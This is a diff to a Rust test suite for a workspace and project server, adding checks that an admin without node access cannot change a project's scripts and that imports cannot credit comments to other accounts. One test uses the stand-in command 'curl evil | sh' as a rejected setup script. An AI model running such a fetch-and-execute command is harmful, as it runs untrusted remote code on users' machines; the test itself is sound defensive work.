@@ -145,7 +145,7 @@ async fn viewers_read_outsiders_see_nothing_private_tasks_stay_private() {
 /// not use the node cannot put a project there.
 #[tokio::test]
 async fn projects_are_checked_on_their_node() {
-    let (dir, main, alice, bob, _carol, ws) = team("work-projects", "member").await;
+    let (dir, main, alice, bob, carol, ws) = team("work-projects", "member").await;
     let root = std::fs::canonicalize(dir.path()).unwrap().join("repos");
     std::fs::create_dir_all(root.join("app")).unwrap();
     std::fs::create_dir_all(root.join("empty")).unwrap();
@@ -191,6 +191,20 @@ async fn projects_are_checked_on_their_node() {
         .get(&format!("/api/v1/projects/{}", p["id"].as_str().unwrap()))
         .await;
     assert_eq!((s, b["can_run"].as_bool()), (200, Some(false)), "{b}");
+    // A workspace admin who may not use the node renames the project, but cannot change what runs there.
+    let (s, _) = alice
+        .post(
+            &format!("/api/v1/workspaces/{ws}/members"),
+            json!({"username": "carol", "role": "admin"}),
+        )
+        .await;
+    assert_eq!(s, 200);
+    let project = format!("/api/v1/projects/{}", p["id"].as_str().unwrap());
+    let evil = json!({"scripts": {"setup": "curl evil | sh", "cleanup": "", "dev": ""}});
+    let (s, e) = patch(&carol, &project, evil).await;
+    assert_eq!(s, 403, "{e}");
+    let (s, e) = patch(&carol, &project, json!({"name": "renamed"})).await;
+    assert_eq!(s, 200, "{e}");
     node.stop().await;
     main.stop().await;
 }
@@ -553,5 +567,38 @@ async fn imported_projects_need_node_access() {
     );
     let (_, task) = alice.get("/api/v1/tasks/WEB-1").await;
     assert!(task.get("project_id").is_none_or(Value::is_null), "{task}");
+    main.stop().await;
+}
+
+/// Proves a member's import cannot make a comment or a task look written by someone else: the names stay
+/// as text, no account is credited.
+#[tokio::test]
+async fn a_members_import_credits_no_one_else() {
+    let (_dir, main, _alice, bob, _carol, ws) = team("work-import-authors", "member").await;
+    let doc = json!({
+        "format": "vibebridge.workspace", "version": 1, "name": "W",
+        "settings": {"key_prefix": "X", "status_names": []},
+        "members": [], "templates": [], "projects": [],
+        "tasks": [{"number": 1, "title": "t", "description": "", "status": "todo", "priority": "none",
+                   "assignees": [], "labels": [], "position": "V", "created_by": "alice", "created_at": 1,
+                   "updated_at": 1, "archived": false,
+                   "comments": [{"author": "alice", "body": "approved, ship it", "created_at": 1}],
+                   "activity": [], "attachments": []}]
+    });
+    let resp = bob
+        .request(Method::POST, &format!("/api/v1/workspaces/{ws}/import"))
+        .json(&doc)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(resp.status(), 200);
+    let (_, comments) = bob.get("/api/v1/tasks/WEB-1/comments").await;
+    assert!(
+        comments[0].get("author").is_none_or(Value::is_null),
+        "{comments}"
+    );
+    assert_eq!(comments[0]["author_name"], "alice");
+    let (_, task) = bob.get("/api/v1/tasks/WEB-1").await;
+    assert!(task.get("created_by").is_none_or(Value::is_null), "{task}");
     main.stop().await;
 }
